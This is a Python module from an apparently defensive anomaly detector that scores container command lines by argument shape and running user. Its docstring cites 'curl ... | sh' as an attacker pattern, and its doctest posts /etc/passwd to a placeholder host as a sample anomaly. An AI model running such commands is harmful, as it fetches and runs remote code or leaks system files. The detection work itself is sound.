"""Commands: how programs are called, and as whom.

A container calls its programs in few ways: from scripts, jobs and services that never change. A person or an
attacker uses the same programs, but calls them otherwise: ``curl -fsS http://name`` is a health check,
``curl -s http://address | sh`` is not. And each program has its user: the same one as another user is a step
up (a setuid program, sudo, a shell into the container as root) or down.
"""

from __future__ import annotations

import polars as pl

from rtml.baselines import Conditional, Selection
from rtml.features.arguments import LONGEST, shape
from rtml.features.contract import Family
from rtml.features.pairs import CELL, Material
from rtml.features.programs import BARE, GIVEN_PROGRAM, PROGRAM, with_bare

__all__ = ["COMMANDS", "SHAPE", "USER", "commands"]

_STARTED = Selection(("exec",), ("exe", BARE, "cmdline", "uid", "euid"), prepare=with_bare)

SHAPE = Conditional("commands.shape", _STARTED, shape(pl.col("cmdline")), PROGRAM, GIVEN_PROGRAM)
"""P(shape of the arguments | program): `rtml.features.arguments.shape`, so that no password, token, host or
message gets into a baseline."""

_OTHER = pl.when(pl.col("euid") != pl.col("uid")).then("euid")
USER = Conditional(
    "commands.user",
    _STARTED,
    pl.when(pl.col("uid").is_not_null()).then(
        pl.concat_str(["uid", _OTHER], separator=" as ", ignore_nulls=True)
    ),
    PROGRAM,
    GIVEN_PROGRAM,
)
"""P(user, and the effective one where it is another | program)."""


def commands(material: Material) -> pl.DataFrame:
    """Give the length of arguments and the number of users, per container and window.

    Beside the surprise of each command's shape and user given the program (`SHAPE`, `USER`;
    `rtml.features.surprise`), which are learnt from every exec of the baseline:

    - ``longest``: characters of the longest argument of a program started, of the first 2048 of its command
      line; 0 and up.
    - ``users``: distinct users as whom programs were started; 0 and up.

    Both are 0 in a window that starts no program. Fails when an attacker calls programs as the workload does,
    for what a program is told after its start (standard input, a socket, a script that lies in a file), where
    people log in and type (every command of theirs is new: learn from days on which they did), where
    everything runs as root, and where a sensor cuts command lines (the shipped recordings: at
    504 characters).

    References
    ----------
    Hendler et al., "Detecting malicious PowerShell commands using deep neural networks", ASIACCS 2018,
    https://doi.org/10.1145/3196494.3196511 (command lines without names and numbers tell attacks); MITRE
    ATT&CK T1059 and T1548.001, https://attack.mitre.org/techniques/T1059/.

    Examples
    --------
    >>> import datetime as dt
    >>> from rtml.features import learn, windows
    >>> lines = ["curl -fsS http://web/health"] * 9 + ["curl -fsS http://api/", "curl -d @/etc/passwd http://x"]
    >>> at = [dt.datetime(2026, 1, 1, 0, minute) for minute in range(11)]
    >>> events = pl.DataFrame({"time": at, "seq": range(11), "kind": ["exec"] * 11, "uid": [33] * 11,
    ...     "container_id": ["c"] * 11, "exe": ["/usr/bin/curl"] * 11, "cmdline": lines})
    >>> table = windows(events, learn(events[:9]), families=["commands"], start=at[9])
    >>> table.select("commands.shape_bits_max", "commands.never_seen", "commands.longest").rows()
    [(0.178, 0.0, 11.0), (3.111, 1.0, 12.0)]
    """
    started = material.cells[SHAPE.name].select(*CELL, "cmdline", "uid")
    distinct = started.select("cmdline").unique()
    arguments = pl.col("cmdline").str.slice(0, LONGEST).str.split(" ").list.slice(1)
    longest = arguments.list.eval(pl.element().str.len_chars()).list.max().fill_null(0).cast(pl.Float64)
    lengths = distinct.with_columns(longest=longest)
    return (
        started.join(lengths, on="cmdline", nulls_equal=True)
        .group_by(CELL)
        .agg(pl.col("longest").max(), users=pl.col("uid").drop_nulls().n_unique().cast(pl.Float64))
    )


COMMANDS = Family(
    "commands",
    commands,
    ("longest", "users"),
    conditionals=(SHAPE, USER),
    purpose="Execution",
    phrase="arguments or user given the program",
)
